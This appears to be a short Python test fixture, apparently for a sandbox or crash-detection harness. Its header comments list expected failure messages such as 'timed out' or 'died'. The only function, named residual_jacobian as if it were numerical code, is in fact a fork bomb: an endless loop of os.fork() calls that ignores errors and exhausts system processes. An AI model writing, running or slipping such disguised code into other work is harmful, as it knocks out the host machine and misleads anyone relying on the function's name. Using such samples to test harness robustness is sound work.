# affected: 3.1
# message: timed out after | died | raised
# root_only: yes

import os


def residual_jacobian(A, b, y_prev, sigma_prime):
    while True:
        try:
            os.fork()
        except OSError:
            pass
